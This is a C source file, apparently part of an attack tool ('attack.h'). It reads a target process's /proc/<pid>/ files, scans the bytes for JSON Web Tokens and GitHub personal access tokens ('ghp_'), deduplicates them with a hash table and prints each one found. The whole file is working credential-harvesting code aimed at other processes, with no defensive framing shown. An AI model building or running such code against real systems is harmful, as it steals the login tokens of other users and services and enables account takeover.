#include "attack.h"

#include <ctype.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static int IsTokenByte(char byte) {
  return isalnum((unsigned char)byte) || byte == '-' || byte == '_' || byte == '.';
}

// Memory holds a credential many times over: the last few are not printed again.
static int IsNew(const char* bytes, size_t length) {
  static uint64_t seen[64];
  static unsigned next;
  uint64_t hash = 14695981039346656037u;  // FNV-1a
  for (size_t i = 0; i < length; i++) hash = (hash ^ (unsigned char)bytes[i]) * 1099511628211u;
  for (size_t i = 0; i < 64; i++) {
    if (seen[i] == hash) return 0;
  }
  seen[next++ % 64] = hash;
  return 1;
}

size_t CredentialLength(const char* bytes, size_t length) {
  if (length < 36 || (bytes[0] != 'e' && bytes[0] != 'g')) return 0;
  size_t run = 0;
  int dots = 0;
  while (run < length && run < 4096 && IsTokenByte(bytes[run])) dots += bytes[run++] == '.';
  if (memcmp(bytes, "eyJ", 3) == 0) return run >= 60 && dots == 2 ? run : 0;
  return memcmp(bytes, "ghp_", 4) == 0 && run >= 36 ? run : 0;
}

void Hunt(const char* bytes, size_t length) {
  for (size_t i = 0; i + 36 <= length; i++) {
    const size_t found = CredentialLength(bytes + i, length - i);
    if (found == 0) continue;
    if (IsNew(bytes + i, found)) printf("found: %.*s\n", (int)found, bytes + i);
    i += found;
  }
}

int HuntFile(pid_t target, const char* name) {
  char path[96];
  snprintf(path, sizeof path, "/proc/%d/%s", (int)target, name);
  return HuntPath(path);
}

int HuntPath(const char* path) {
  const int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) {
    Refused(path);
    return 0;
  }
  static char bytes[1 << 18];
  size_t length = 0;
  ssize_t got;
  while (length < sizeof bytes && (got = read(fd, bytes + length, sizeof bytes - length)) > 0) length += (size_t)got;
  close(fd);
  Hunt(bytes, length);
  return 1;
}
